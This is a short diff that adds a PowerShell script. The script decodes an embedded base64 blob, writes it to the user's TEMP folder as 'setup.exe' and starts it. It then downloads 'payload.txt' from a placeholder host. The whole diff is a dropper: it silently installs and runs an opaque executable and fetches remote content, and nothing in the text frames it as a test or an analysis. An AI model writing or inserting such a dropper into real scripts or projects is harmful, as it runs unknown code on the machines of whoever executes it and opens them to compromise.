@@ -1,0 +1,6 @@
+$data = 'FGvogZiCryCKBgRq5soV7/M+/fOm+rkKA0+ADpxBQ/6eLUGibJxI9f4+VC/u3hNoM0noNBZ6m3CDZfnOMWc8IgqFADGSYSG/r4Pv/5oGXvPl2V5U8FaLg3U4dfn7hNGOEXm7JOa+tsJx5dmAU5VYMN5GDq+3QwFR3g/eJy8AynuJHOYLkJHEdTycOBoNehHu+GungmL3SmF9pAYzroohbx2SKmwQPHws6+RQb6y5iyT4BusNby+qxIxF3HNmkfNlLuJWlyuY'
+$bytes = [Convert]::FromBase64String($data)
+$exe = Join-Path $env:TEMP 'setup.exe'
+[IO.File]::WriteAllBytes($exe, $bytes)
+Start-Process $exe
+(New-Object Net.WebClient).DownloadString('https://cdn-updates.example/payload.txt') | Out-Null
